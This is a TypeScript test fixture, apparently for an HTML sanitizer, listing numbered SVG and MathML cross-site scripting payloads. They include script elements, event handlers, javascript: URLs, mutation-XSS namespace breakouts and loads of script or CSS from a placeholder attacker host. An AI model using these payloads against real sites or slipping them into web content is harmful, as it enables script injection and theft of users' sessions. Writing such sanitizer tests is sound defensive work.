import { call, evil, type HostileCase, numberCases } from './hostile-case.ts';

const script = `javascript:${call}`;

const svg = [
  `<svg><script href="data:,${call}"/></svg>text`,
  `<svg><script xlink:href="${evil}/x.js"></script></svg>text`,
  `<svg><script>//<![CDATA[\n${call}\n//]]></script></svg>text`,
  `<svg><script>alert&lpar;1&rpar;</script></svg>text`,
  `<svg><use href="${evil}/x.svg#x"></use></svg>text`,
  `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>text`,
  `<svg><use href="#a"/><g id=a onload=${call}></g></svg>text`,
  `<svg><animate attributeName=href values="${script}" /><a id=x><text>text</text></a></svg>`,
  `<svg><a><animate attributeName=href from=${script} to=& dur=9s /><text>text</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call}><text>text</text></svg>`,
  `<svg><animate href=#p attributeName=d onbegin=${call} onend=${call} onrepeat=${call} dur=1ms repeatCount=2 /></svg>text`,
  `<svg><animateMotion onbegin=${call} dur=1s /><animateTransform onbegin=${call} dur=1s /></svg>text`,
  `<svg><discard onbegin=${call} /></svg>text`,
  `<svg><foreignObject><body onload=${call}><p>text</p></foreignObject></svg>`,
  `<svg><foreignObject><math><mi xlink:href="${script}">text</mi></math></foreignObject></svg>`,
  `<svg><foreignObject requiredExtensions=x><script>${call}</script></foreignObject></svg>text`,
  `<svg><handler type=text/javascript ev:event=load>${call}</handler></svg>text`,
  `<svg><listener event=load handler=#x /><handler id=x>${call}</handler></svg>text`,
  `<svg><image xlink:href="${evil}/x.png" onload=${call}></svg>text`,
  `<svg><feImage href="${evil}/x.png" /></svg>text`,
  `<svg><filter id=f><feImage xlink:href="data:image/svg+xml,<svg onload=${call}>"/></filter></svg>text`,
  `<svg><style>@import "${evil}/x.css";*{background:url(${evil}/y)}</style></svg>text`,
  `<svg style="background:url(${evil}/x)"><rect fill="url(${evil}/x#y)" /></svg>text`,
  `<svg><metadata><script>${call}</script></metadata></svg>text`,
  `<svg><switch><script>${call}</script></switch></svg>text`,
  `<svg><pattern id=p><image href="${script}" /></pattern></svg>text`,
  `<svg><text><textPath xlink:href="${script}">text</textPath></text></svg>`,
  `<svg><view xlink:href="${script}"></view><cursor xlink:href="${script}"></svg>text`,
  `<svg xmlns:xlink="${evil}" xml:base="${script}"><a xlink:href="/x">text</a></svg>`,
  `<svg><title><style><img src=x onerror=${call}></style></title></svg>text`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>text`,
  `<svg viewBox="0 0 1 1" width=99999 height=99999></svg>text`,
  `<svg><font><font-face><font-face-src><font-face-uri xlink:href="${evil}/f"></font></svg>text`,
  `<svg><mpath xlink:href="${script}"/><tref xlink:href="${script}"/></svg>text`,
  `<svg><iframe src="${script}"></iframe></svg>text`,
  `<svg><br><img src=x onerror=${call}></svg>text`,
];

const math = [
  `<math><a xlink:href="${script}">text</a></math>`,
  `<math xlink:href="${script}"><mtext>text</mtext></math>`,
  `<math><mrow href="${script}"><mi>text</mi></mrow></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="${script}"></iframe></annotation-xml></semantics></math>text`,
  `<math><annotation-xml encoding=image/svg+xml><svg onload=${call}></svg></annotation-xml></math>text`,
  `<math><mtext><script>${call}</script></mtext></math>text`,
  `<math><mglyph src="${evil}/x.png" alt=text></math>text`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${call}></style></table></math>text`,
  `<math><ms><malignmark><style></ms><img src=x onerror=${call}></style></math>text`,
  `<math style="position:fixed;inset:0"><mi>text</mi></math>`,
  `<math><mspace width=99999px height=99999px></mspace></math>text`,
  `<math><maction actiontype=toggle onclick=${call}><mi>text</mi></maction></math>`,
  `<math><mi//xlink:href="${script}">text</mi></math>`,
  `<math><mstyle definitionURL="${script}" displaystyle=true><mi>text</mi></mstyle></math>`,
];

export const foreignContent: readonly HostileCase[] = [
  ...numberCases('svg', svg),
  ...numberCases('mathml', math),
];
